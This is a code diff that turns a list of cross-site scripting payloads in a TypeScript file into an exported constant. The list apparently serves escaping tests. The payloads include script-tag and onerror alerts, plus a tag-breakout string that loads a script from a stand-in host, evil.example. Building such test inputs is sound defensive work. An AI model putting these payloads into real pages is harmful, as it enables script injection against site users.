@@ -1,7 +1,8 @@
 import { execFileSync } from 'node:child_process';
 import { join } from 'node:path';
 
-const tricks = [
+/** Texts that would do harm where they are not escaped, or break what is written around them. */
+export const tricks: readonly string[] = [
   '<script>alert(1)</script>',
   '</title></script><script src=https://evil.example/x.js></script>',
   '<img src=x onerror=alert(1)>',
